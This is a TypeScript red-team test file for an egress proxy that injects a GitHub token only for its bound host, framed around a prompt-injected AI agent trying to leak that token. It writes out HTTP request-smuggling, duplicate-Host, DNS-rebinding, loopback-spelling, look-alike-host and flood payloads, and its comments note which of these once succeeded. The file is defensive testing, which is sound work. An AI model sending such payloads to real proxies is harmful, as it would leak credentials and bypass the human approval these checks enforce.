// Red team of the egress proxy: a prompt-injected agent holds the placeholder for
// GITHUB_TOKEN (bound to api.example.test, header Authorization) and wants the real value
// somewhere else, or a connection nobody allowed. Real daemon, real sockets, real TLS;
// the attacker's bytes go straight to the task's egress.sock (which is all the relay in a
// sandbox does, see test/helpers/egress-client.ts), the upstreams are 127.0.0.1 servers
// that record exactly what reached them. What worked once is fixed and kept here; what
// held is kept too.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as path from 'node:path';
import * as tls from 'node:tls';
import { startDaemon, tempHome, waitFor, type Daemon } from '../helpers/daemon';
import { connectTunnel, exchange, rawExchange, rawUpstream, responseBody, tlsInTunnel, type RawUpstream } from '../helpers/egress-client';
import { Human } from '../helpers/human';
import { makeTestCa, testHttpsServer, type TestCa, type TestHttps } from '../helpers/tls-server';
import type { RpcClient } from '../../main/client/rpc-client';
import type { HistoryEvent } from '../../main/contract/approver';

const TOKEN = 'ghp_REAL_redteam_token_0123456789abcdef';
const NAMES = ['api.example.test', 'paste.example.test', 'api.example.test.evil', 'evilapi.example.test'];

let d: Daemon;
let ui: RpcClient;
let human: Human;
let ca: TestCa;
let tlsUp: RawUpstream;
let plainUp: RawUpstream;
let echo: TestHttps;

before(async () => {
  ca = makeTestCa(tempHome('al-rca-'), NAMES);
  tlsUp = await rawUpstream(ca);
  plainUp = await rawUpstream(null);
  // The secret's own host echoing the credential back: status line, a header, the body.
  echo = await testHttpsServer(ca, (req, res) => {
    const a = req.headers.authorization ?? '';
    res.writeHead(200, `seen ${a}`, { 'X-Seen': a });
    res.end(`body ${a}\n`);
    return true;
  });
  d = await startDaemon({
    env: {
      AIRLOCK_TEST: '1',
      AIRLOCK_EGRESS_TEST_CA: ca.caFile,
      AIRLOCK_EGRESS_TEST_HOSTS: NAMES.map((n) => `${n}=127.0.0.1`).join(','),
      // Stands in for DNS: not known before the decision, answered only once allowed.
      AIRLOCK_EGRESS_TEST_DNS: 'rebind.example.test=127.0.0.1',
    },
  });
  ui = await d.ui();
  human = await Human.on(ui);
  await ui.call('secrets.add', { name: 'GITHUB_TOKEN', value: TOKEN, hosts: ['api.example.test'], headers: ['Authorization'] });
});
after(async () => {
  ui?.close();
  await d?.stop();
  tlsUp?.close();
  plainUp?.close();
  await echo?.close();
});

interface Task {
  task: string;
  sock: string;
  caBundle: string;
  ph: string;
}

/** A task using GITHUB_TOKEN, allowed to every port of the test names (a leak in one test must not make the next one critical). */
async function newTask(name: string, grant = `{${NAMES.join(',')}}:*`): Promise<Task> {
  const agent = await d.agent();
  try {
    const r = await agent.call<{ task: string; egress: { sock: string; caBundle: string; placeholders: Record<string, string> } }>('task.start', { name, secrets: ['GITHUB_TOKEN'] });
    if (grant) await ui.call('grants.create', { task: r.task, source: 'egress', action: 'transfer', resource: grant, effect: 'allow' });
    return { task: r.task, sock: r.egress.sock, caBundle: r.egress.caBundle, ph: r.egress.placeholders.GITHUB_TOKEN! };
  } finally {
    agent.close();
  }
}

const api = (port: number) => `api.example.test:${port}`;
/** The request a raw upstream got whose request line has `marker`. */
const gotWith = (up: RawUpstream, marker: string) => up.got.find((g) => g.includes(marker)) ?? '';
const hostLines = (raw: string) => raw.split('\r\n\r\n')[0]!.split('\r\n').filter((l) => /^host:/i.test(l));

async function events(task: string): Promise<HistoryEvent[]> {
  return (await ui.call<{ events: HistoryEvent[] }>('history.query', { task, source: 'egress', limit: 1000 })).events;
}

describe('egress red team: the real value only to its host, nothing nobody allowed', () => {
  test('a second Host line inside the secret host\'s tunnel is not forwarded beside the secret (it was: a front end reading the last Host routed the token to another name)', async () => {
    const t = await newTask('dup host');
    const s = await tlsInTunnel(t.sock, api(tlsUp.port), 'api.example.test', t.caBundle);
    const back = await exchange(s, `GET /dup-host HTTP/1.1\r\nHost: ${api(tlsUp.port)}\r\nHost: paste.example.test\r\nAuthorization: Bearer ${t.ph}\r\nConnection: close\r\n\r\n`);
    assert.match(back, /^HTTP\/1\.1 200/);
    const got = gotWith(tlsUp, 'GET /dup-host');
    assert.deepEqual(hostLines(got), [`Host: ${api(tlsUp.port)}`], got);
    assert.ok(got.includes(`Bearer ${TOKEN}`), 'the secret still reaches its own host');
  });

  test('a chunked body cannot smuggle a second request to the secret\'s host (it was: Transfer-Encoding dropped, the body went out bare after a GET)', async () => {
    const t = await newTask('smuggle');
    const smuggled = 'GET /smuggled HTTP/1.1\r\nHost: paste.example.test\r\n\r\n';
    const chunked = `${Buffer.byteLength(smuggled).toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`;
    const s = await tlsInTunnel(t.sock, api(tlsUp.port), 'api.example.test', t.caBundle);
    await exchange(s, `GET /front HTTP/1.1\r\nHost: ${api(tlsUp.port)}\r\nAuthorization: Bearer ${t.ph}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${chunked}`);
    const got = gotWith(tlsUp, 'GET /front');
    assert.ok(got.includes(`Bearer ${TOKEN}`), got);
    assert.match(got, /\r\ntransfer-encoding: chunked\r\n/i, 'the body keeps its framing');
    assert.doesNotMatch(got, /\r\n\r\nGET \/smuggled/, `a second request reached the server: ${JSON.stringify(got)}`);
    // The same through plain HTTP (absolute-form) to an allowed host.
    await rawExchange(t.sock, `GET http://paste.example.test:${plainUp.port}/front-plain HTTP/1.1\r\nHost: paste.example.test:${plainUp.port}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${chunked}`);
    const plain = gotWith(plainUp, 'GET /front-plain');
    assert.match(plain, /\r\ntransfer-encoding: chunked\r\n/i, plain);
    assert.doesNotMatch(plain, /\r\n\r\nGET \/smuggled/, JSON.stringify(plain));
  });

  test('plain HTTP: the Host upstream is the allowed URL\'s, not the one the request names (it was forwarded: any virtual host on an allowed address)', async () => {
    const t = await newTask('plain vhost');
    const back = await rawExchange(t.sock, `GET http://paste.example.test:${plainUp.port}/vhost HTTP/1.1\r\nHost: intranet.example.test\r\nHost: other.example.test\r\nConnection: close\r\n\r\n`);
    assert.match(back, /^HTTP\/1\.1 200/);
    assert.deepEqual(hostLines(gotWith(plainUp, 'GET /vhost')), [`Host: paste.example.test:${plainUp.port}`]);
  });

  test('the secret host echoing the credential back: status line, headers and body carry the placeholder, never the value (the status line used to carry it)', async () => {
    const t = await newTask('echo');
    echo.seen.length = 0;
    const s = await tlsInTunnel(t.sock, api(echo.port), 'api.example.test', t.caBundle);
    const back = await exchange(s, `GET /me HTTP/1.1\r\nHost: ${api(echo.port)}\r\nAuthorization: Bearer ${t.ph}\r\nAccept-Encoding: gzip\r\nConnection: close\r\n\r\n`);
    assert.equal(echo.seen.at(-1)?.authorization, `Bearer ${TOKEN}`, 'injected on its host');
    assert.ok(!back.includes(TOKEN), `the value came back to the sandbox: ${back}`);
    assert.match(back, new RegExp(`^HTTP/1\\.1 200 seen Bearer ${t.ph}\r\n`));
    assert.match(back, new RegExp(`\r\nX-Seen: Bearer ${t.ph}\r\n`, 'i'));
    assert.equal(responseBody(back), `body Bearer ${t.ph}\n`);
  });

  test('held: a redirect from the secret\'s host is handed to the client, never followed, and its Location carries the placeholder', async () => {
    const t = await newTask('redirect');
    const target = `https://paste.example.test:${tlsUp.port}/stolen`;
    const redirect = await testHttpsServer(ca, (req, res) => {
      res.writeHead(302, { Location: `${target}?t=${encodeURIComponent(req.headers.authorization ?? '')}&raw=${req.headers.authorization ?? ''}` });
      res.end();
      return true;
    });
    try {
      const before = tlsUp.got.length;
      const s = await tlsInTunnel(t.sock, api(redirect.port), 'api.example.test', t.caBundle);
      const back = await exchange(s, `GET /login HTTP/1.1\r\nHost: ${api(redirect.port)}\r\nAuthorization: Bearer ${t.ph}\r\nConnection: close\r\n\r\n`);
      assert.equal(redirect.seen.at(-1)?.authorization, `Bearer ${TOKEN}`);
      assert.match(back, /^HTTP\/1\.1 302/);
      assert.ok(back.includes(`&raw=Bearer ${t.ph}`) && !back.includes(TOKEN), back);
      await new Promise((r) => setTimeout(r, 300));
      assert.equal(tlsUp.got.length, before, 'the proxy followed nothing');
    } finally {
      await redirect.close();
    }
  });

  test('a secret removed while its task runs is injected no more (it was, until the task ended)', async () => {
    const VALUE = 'revocable_value_0123456789abcdef';
    await ui.call('secrets.add', { name: 'REVOCABLE', value: VALUE, hosts: ['api.example.test'], headers: ['Authorization'] });
    const agent = await d.agent();
    const r = await agent.call<{ task: string; egress: { sock: string; caBundle: string; placeholders: Record<string, string> } }>('task.start', { name: 'revoked', secrets: ['REVOCABLE'] });
    agent.close();
    await ui.call('grants.create', { task: r.task, source: 'egress', action: 'transfer', resource: `api.example.test:${echo.port}`, effect: 'allow' });
    const ph = r.egress.placeholders.REVOCABLE!;
    const once = async () => {
      const s = await tlsInTunnel(r.egress.sock, api(echo.port), 'api.example.test', r.egress.caBundle);
      await exchange(s, `GET /rev HTTP/1.1\r\nHost: ${api(echo.port)}\r\nAuthorization: Bearer ${ph}\r\nConnection: close\r\n\r\n`);
      return echo.seen.at(-1)?.authorization;
    };
    assert.equal(await once(), `Bearer ${VALUE}`);
    await ui.call('secrets.remove', { name: 'REVOCABLE' });
    assert.equal(await once(), `Bearer ${ph}`);
    assert.ok(!(await events(r.task)).some((e) => e.tool === 'net.placeholder-leak'), 'its own host is no leak');
  });

  test('a secret removed and added again under the same name is a new secret: the running task that had it gets it no more, a task started after the add does (it was injected again into the running task)', async () => {
    const agent = await d.agent();
    const start = async (name: string) => {
      const r = await agent.call<{ task: string; egress: { sock: string; caBundle: string; placeholders: Record<string, string> } }>('task.start', { name, secrets: ['READDED'] });
      await ui.call('grants.create', { task: r.task, source: 'egress', action: 'transfer', resource: `api.example.test:${echo.port}`, effect: 'allow' });
      return r;
    };
    const once = async (r: { egress: { sock: string; caBundle: string; placeholders: Record<string, string> } }) => {
      const s = await tlsInTunnel(r.egress.sock, api(echo.port), 'api.example.test', r.egress.caBundle);
      await exchange(s, `GET /readd HTTP/1.1\r\nHost: ${api(echo.port)}\r\nAuthorization: Bearer ${r.egress.placeholders.READDED!}\r\nConnection: close\r\n\r\n`);
      return echo.seen.at(-1)?.authorization;
    };
    try {
      await ui.call('secrets.add', { name: 'READDED', value: 'first_value_0123456789abcdef', hosts: ['api.example.test'], headers: ['Authorization'] });
      const a = await start('before the remove');
      assert.equal(await once(a), 'Bearer first_value_0123456789abcdef');
      await ui.call('secrets.remove', { name: 'READDED' });
      assert.equal(await once(a), `Bearer ${a.egress.placeholders.READDED}`);
      await ui.call('secrets.add', { name: 'READDED', value: 'second_value_0123456789abcdef', hosts: ['api.example.test'], headers: ['Authorization'] });
      // The running task had the secret taken back: neither its old value nor the new one.
      assert.equal(await once(a), `Bearer ${a.egress.placeholders.READDED}`);
      // A task started after the add gets the new secret (control).
      const b = await start('after the add');
      assert.equal(await once(b), 'Bearer second_value_0123456789abcdef');
      // Replacing without a remove is no revocation: a running task keeps the value it started with (docs/egress.md).
      await ui.call('secrets.add', { name: 'READDED', value: 'third_value_0123456789abcdef', hosts: ['api.example.test'], headers: ['Authorization'] });
      assert.equal(await once(b), 'Bearer second_value_0123456789abcdef');
      assert.equal(await once(a), `Bearer ${a.egress.placeholders.READDED}`);
      assert.equal(await once(await start('after the replace')), 'Bearer third_value_0123456789abcdef');
      assert.ok(!(await events(a.task)).some((e) => e.tool === 'net.placeholder-leak'), 'its own host is no leak');
    } finally {
      agent.close();
    }
  });

  test('[::ffff:127.0.0.1] is this machine: the prompt says loopback and is high risk (it said nothing: the URL parser writes it ::ffff:7f00:1)', async () => {
    const t = await newTask('mapped loopback');
    const pending = rawExchange(t.sock, `CONNECT [::ffff:127.0.0.1]:${plainUp.port} HTTP/1.1\r\nHost: x\r\n\r\n`);
    const p = await human.next(15_000);
    // Asked as the IPv4 address it reaches (blackbox4-egress: a deny grant on 127.0.0.1:* covers it).
    assert.equal(p.resource, `127.0.0.1:${plainUp.port}`);
    assert.equal(p.risk.level, 'high');
    assert.ok(p.risk.reasons.some((r) => /this machine \(loopback\)/.test(r)), JSON.stringify(p.risk));
    await human.decide(p.id, 'deny');
    assert.match(await pending, /^HTTP\/1\.1 403/);
  });

  test('a placeholder in a header name over plain HTTP is recorded and makes the task critical (names were not looked at)', async () => {
    const t = await newTask('placeholder in a name');
    await rawExchange(t.sock, `GET http://paste.example.test:${plainUp.port}/named HTTP/1.1\r\nHost: paste.example.test\r\nX-${t.ph}: 1\r\nConnection: close\r\n\r\n`);
    await waitFor(async () => (await events(t.task)).some((e) => e.tool === 'net.placeholder-leak'), 'the leak to be recorded', 30_000);
    const leak = (await events(t.task)).find((e) => e.tool === 'net.placeholder-leak');
    assert.equal(leak?.risk.level, 'critical');
  });

  test('DNS answering 127.0.0.1 for an allowed name is asked as 127.0.0.1: the grant just made for the name does not cover it (it did: rebinding went through unseen)', async () => {
    const t = await newTask('rebinding', '');
    const url = `http://rebind.example.test:${plainUp.port}`;
    const first = rawExchange(t.sock, `GET ${url}/one HTTP/1.1\r\nHost: rebind.example.test\r\nConnection: close\r\n\r\n`);
    const p1 = await human.next(15_000);
    assert.equal(p1.resource, `rebind.example.test:${plainUp.port}`);
    assert.equal(p1.egress?.address, null, 'no address is known before the decision (no DNS query yet)');
    assert.match(p1.summary, /address resolved once allowed/);
    await human.decide(p1.id, 'allow', 'task');
    // Resolved now: 127.0.0.1. Asked again, as the address, with what DNS said.
    const p2 = await human.next(15_000);
    assert.equal(p2.resource, `127.0.0.1:${plainUp.port}`);
    assert.equal(p2.egress?.address, '127.0.0.1');
    assert.match(p2.summary, /DNS answered 127\.0\.0\.1 for rebind\.example\.test:\d+\/one, which is this machine \(loopback\)/);
    assert.ok(p2.risk.reasons.some((r) => /loopback/.test(r)));
    await human.decide(p2.id, 'deny');
    assert.match(await first, /^HTTP\/1\.1 403/);
    assert.equal(gotWith(plainUp, 'GET /one'), '', 'nothing reached this machine');
    // A grant for the address itself covers it from then on (with the one for the name).
    await ui.call('grants.create', { task: t.task, source: 'egress', action: 'transfer', resource: `127.0.0.1:${plainUp.port}`, effect: 'allow' });
    assert.match(await rawExchange(t.sock, `GET ${url}/two HTTP/1.1\r\nHost: rebind.example.test\r\nConnection: close\r\n\r\n`), /^HTTP\/1\.1 200/);
    assert.equal(human.unanswered().length, 0);
  });

  test('a wildcard grant (a task\'s --network, *:port) does not reach this machine, in any spelling; the prompt says which grant stopped short (it allowed them unseen)', async () => {
    const t = await newTask('wildcard', '*');
    const before = plainUp.got.length;
    for (const target of [`127.0.0.1:${plainUp.port}`, `[::ffff:127.0.0.1]:${plainUp.port}`, `0x7f000001:${plainUp.port}`, `localhost:${plainUp.port}`]) {
      const pending = rawExchange(t.sock, `CONNECT ${target} HTTP/1.1\r\nHost: x\r\n\r\n`);
      const p = await human.next(15_000);
      assert.equal(p.task, t.task);
      assert.match(p.nearMiss ?? '', /covers any host, not this machine \(loopback\)/, target);
      assert.equal(p.risk.level, 'high');
      await human.decide(p.id, 'deny');
      assert.match(await pending, /^HTTP\/1\.1 403/, target);
    }
    assert.equal(plainUp.got.length, before, 'nothing reached this machine');
    // A grant that names the host covers it.
    await ui.call('grants.create', { task: t.task, source: 'egress', action: 'transfer', resource: `127.0.0.1:*`, effect: 'allow' });
    assert.match(await rawExchange(t.sock, `GET http://127.0.0.1:${plainUp.port}/named HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`), /^HTTP\/1\.1 200/);
    assert.equal(human.unanswered().length, 0);
  });

  test('held: framing tricks are refused before anything reaches the secret\'s host', async () => {
    const t = await newTask('framing');
    const before = tlsUp.got.length;
    const attempts = [
      ['CL+TE', `POST /a HTTP/1.1\r\nHost: ${api(tlsUp.port)}\r\nAuthorization: Bearer ${t.ph}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`],
      ['two Content-Length', `POST /b HTTP/1.1\r\nHost: ${api(tlsUp.port)}\r\nAuthorization: Bearer ${t.ph}\r\nContent-Length: 0\r\nContent-Length: 44\r\n\r\n`],
      ['chunked, identity', `POST /c HTTP/1.1\r\nHost: ${api(tlsUp.port)}\r\nAuthorization: Bearer ${t.ph}\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n`],
      ['obs-fold', `GET /d HTTP/1.1\r\nHost: ${api(tlsUp.port)}\r\nAuthorization: Bearer\r\n ${t.ph}\r\n\r\n`],
      ['space before colon', `GET /e HTTP/1.1\r\nHost : paste.example.test\r\nAuthorization: Bearer ${t.ph}\r\n\r\n`],
      ['bare LF', `GET /f HTTP/1.1\nHost: ${api(tlsUp.port)}\nAuthorization: Bearer ${t.ph}\n\n`],
    ];
    for (const [what, bytes] of attempts) {
      const s = await tlsInTunnel(t.sock, api(tlsUp.port), 'api.example.test', t.caBundle);
      const back = await exchange(s, bytes!);
      assert.match(back, /^HTTP\/1\.1 400/, `${what}: ${back}`);
    }
    assert.equal(tlsUp.got.length, before, 'nothing reached the server');
  });

  test('held: one tunnel, many requests: another Host, absolute-form, a Host with a dot, userinfo or another port get no secret', async () => {
    // Each attempt in a task of its own: a placeholder sent with a wrong Host is itself a
    // leak, and makes the rest of its task ask.
    const t = await newTask('keep-alive');
    const before = tlsUp.got.length;
    const s = await tlsInTunnel(t.sock, api(tlsUp.port), 'api.example.test', t.caBundle);
    // Pipelined: the first is fine, the rest name other destinations.
    const req = (line: string, host: string) => `${line} HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${t.ph}\r\n\r\n`;
    const back = await exchange(
      s,
      req('GET /first', api(tlsUp.port)) + req('GET /second', 'paste.example.test') + req('GET http://paste.example.test/third', 'paste.example.test'),
      5000,
    );
    assert.match(back, /^HTTP\/1\.1 200/);
    assert.match(back, /HTTP\/1\.1 421/);
    await waitFor(async () => (await events(t.task)).some((e) => e.tool === 'net.placeholder-leak'), 'the wrong Host to be recorded as a leak', 30_000);
    for (const host of [`api.example.test.:${tlsUp.port}`, `x@api.example.test:${tlsUp.port}`, 'api.example.test:1', `paste.example.test:${tlsUp.port}`, '']) {
      const t2 = await newTask(`host ${host}`);
      const s2 = await tlsInTunnel(t2.sock, api(tlsUp.port), 'api.example.test', t2.caBundle);
      const b = await exchange(s2, `GET /h HTTP/1.1\r\n${host ? `Host: ${host}\r\n` : ''}Authorization: Bearer ${t2.ph}\r\n\r\n`);
      assert.match(b, /^HTTP\/1\.1 (421|400)/, `Host ${host}: ${b}`);
    }
    const sent = tlsUp.got.slice(before);
    assert.equal(sent.length, 1, JSON.stringify(sent));
    assert.ok(sent[0]!.startsWith('GET /first '));
  });

  test('held: no secret over clear text, not even to its own host; look-alike hosts are not its host', async () => {
    const t = await newTask('cleartext');
    await rawExchange(t.sock, `GET http://api.example.test:${plainUp.port}/clear HTTP/1.1\r\nHost: api.example.test\r\nAuthorization: Bearer ${t.ph}\r\nConnection: close\r\n\r\n`);
    const clear = gotWith(plainUp, 'GET /clear');
    assert.ok(clear.includes(`Bearer ${t.ph}`) && !clear.includes(TOKEN), clear);
    // Plain HTTP inside a CONNECT to the secret's host: seen, never given the secret.
    const t2 = await newTask('cleartext in a tunnel');
    const tun = await connectTunnel(t2.sock, `api.example.test:${plainUp.port}`);
    await exchange(tun, `GET /clear-in-tunnel HTTP/1.1\r\nHost: api.example.test:${plainUp.port}\r\nAuthorization: Bearer ${t2.ph}\r\nConnection: close\r\n\r\n`);
    const inTunnel = gotWith(plainUp, 'GET /clear-in-tunnel');
    assert.ok(inTunnel.includes(`Bearer ${t2.ph}`) && !inTunnel.includes(TOKEN), inTunnel);
    for (const host of ['api.example.test.evil', 'evilapi.example.test', 'API.EXAMPLE.TEST.EVIL.']) {
      // Not intercepted: TLS end to end with the upstream (the test CA), which sees the placeholder.
      const t3 = await newTask(`look-alike ${host}`);
      const sock = await connectTunnel(t3.sock, `${host}:${tlsUp.port}`);
      const s = tls.connect({ socket: sock, servername: host.toLowerCase().replace(/\.$/, ''), ca: fs.readFileSync(ca.caFile) });
      s.on('error', () => undefined);
      await new Promise<void>((ok, ko) => s.once('secureConnect', ok).once('error', ko));
      await exchange(s, `GET /lookalike-${host} HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${t3.ph}\r\nConnection: close\r\n\r\n`);
      const got = gotWith(tlsUp, `GET /lookalike-${host}`);
      assert.ok(got.includes(`Bearer ${t3.ph}`) && !got.includes(TOKEN), `${host}: ${got}`);
    }
  });

  test('held: an upgrade or HTTP/2 after injection gets nowhere; odd CONNECT targets are refused', async () => {
    const t = await newTask('upgrade');
    const s = await tlsInTunnel(t.sock, api(tlsUp.port), 'api.example.test', t.caBundle);
    await exchange(s, `GET /ws HTTP/1.1\r\nHost: ${api(tlsUp.port)}\r\nAuthorization: Bearer ${t.ph}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n`);
    const ws = gotWith(tlsUp, 'GET /ws');
    assert.doesNotMatch(ws, /^upgrade:/im, ws);
    // Only http/1.1 is offered on the intercepted side: a client asking for h2 alone gets no h2.
    await assert.rejects(tlsInTunnel(t.sock, api(tlsUp.port), 'api.example.test', t.caBundle, ['h2']), /no application protocol/);
    const h2 = await tlsInTunnel(t.sock, api(tlsUp.port), 'api.example.test', t.caBundle);
    assert.match(await exchange(h2, 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), /^HTTP\/1\.1 400/);
    for (const target of ['api.example.test:0', 'api.example.test:65536', 'api.example.test:99999999999', 'api.example.test', 'a@api.example.test:443', '[::ffff:127.0.0.1%lo]:443']) {
      assert.match(await rawExchange(t.sock, `CONNECT ${target} HTTP/1.1\r\nHost: x\r\n\r\n`), /^HTTP\/1\.1 400/, target);
    }
  });

  test('held: a grant for this host for this task covers neither another task, nor another port, nor a look-alike', async () => {
    const a = await newTask('grant owner', `paste.example.test:${plainUp.port}`);
    const b = await newTask('other task', '');
    const ok = await rawExchange(a.sock, `GET http://paste.example.test:${plainUp.port}/granted HTTP/1.1\r\nHost: paste.example.test\r\nConnection: close\r\n\r\n`);
    assert.match(ok, /^HTTP\/1\.1 200/);
    for (const [t, target] of [
      [b, `paste.example.test:${plainUp.port}`],
      [a, `paste.example.test:${plainUp.port + 1}`],
      [a, `evilapi.example.test:${plainUp.port}`],
      [a, `api.example.test.evil:${plainUp.port}`],
    ] as const) {
      const pending = rawExchange(t.sock, `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`);
      const p = await human.next(15_000);
      assert.equal(p.task, t.task);
      assert.equal(p.resource, target);
      await human.decide(p.id, 'deny');
      assert.match(await pending, /^HTTP\/1\.1 403/);
    }
    assert.equal(human.unanswered().length, 0);
  });
});

describe('egress red team: floods', () => {
  test('held: connections held open without a byte hit the cap with a 503 and the daemon keeps answering; once closed, the task gets out again', async () => {
    const t = await newTask('flood');
    const socks: net.Socket[] = [];
    const texts: string[] = [];
    try {
      for (let i = 0; i < 140; i++) {
        const s = net.connect(t.sock);
        const k = texts.push('') - 1;
        s.on('data', (b: Buffer) => (texts[k] += b.toString('latin1')));
        s.on('error', () => undefined);
        socks.push(s);
      }
      await waitFor(() => texts.some((x) => /^HTTP\/1\.1 503/.test(x)), 'a connection over the cap to be told 503', 15_000);
      assert.ok((await ui.call<{ grants: unknown[] }>('grants.list', { task: t.task })).grants.length >= 1, 'the daemon answers its human');
    } finally {
      for (const s of socks) s.destroy();
    }
    await waitFor(async () => /^HTTP\/1\.1 200/.test(await rawExchange(t.sock, `GET http://paste.example.test:${plainUp.port}/after-flood HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`)), 'a way out again', 15_000, 200);
  });
});

describe('egress red team: the approver\'s own door', () => {
  test('the daemon\'s own web UI port is critical: asked every time, even with a grant naming 127.0.0.1, and the prompt says what it is', async () => {
    const w = await startDaemon({ args: ['--web', '--port', '0'], env: { AIRLOCK_TEST: '1' } });
    const wui = await w.ui();
    try {
      const wh = await Human.on(wui);
      const port = (JSON.parse(fs.readFileSync(path.join(w.home, 'web.json'), 'utf8')) as { port: number }).port;
      assert.ok(port > 0);
      const agent = await w.agent();
      const { task, egress } = await agent.call<{ task: string; egress: { sock: string } }>('task.start', { name: 'own door' });
      agent.close();
      await wui.call('grants.create', { task, source: 'egress', action: 'transfer', resource: '127.0.0.1:*', effect: 'allow' });
      for (const target of [`127.0.0.1:${port}`, `0.0.0.0:${port}`, `[::ffff:127.0.0.1]:${port}`, `localhost:${port}`]) {
        const pending = rawExchange(egress.sock, `GET http://${target}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
        const p = await wh.next(15_000);
        assert.equal(p.risk.level, 'critical', target);
        assert.ok(p.risk.reasons.some((r) => /Airlock's own web UI \(this machine, port \d+\)/.test(r)), JSON.stringify(p.risk.reasons));
        await wh.decide(p.id, 'deny');
        assert.match(await pending, /^HTTP\/1\.1 403/, target);
      }
      // Another port of this machine is still covered by the grant naming 127.0.0.1.
      const other = await rawUpstream(null);
      try {
        assert.match(await rawExchange(egress.sock, `GET http://127.0.0.1:${other.port}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`), /^HTTP\/1\.1 200/);
      } finally {
        other.close();
      }
      assert.equal(wh.unanswered().length, 0);
    } finally {
      wui.close();
      await w.stop();
    }
  });
});
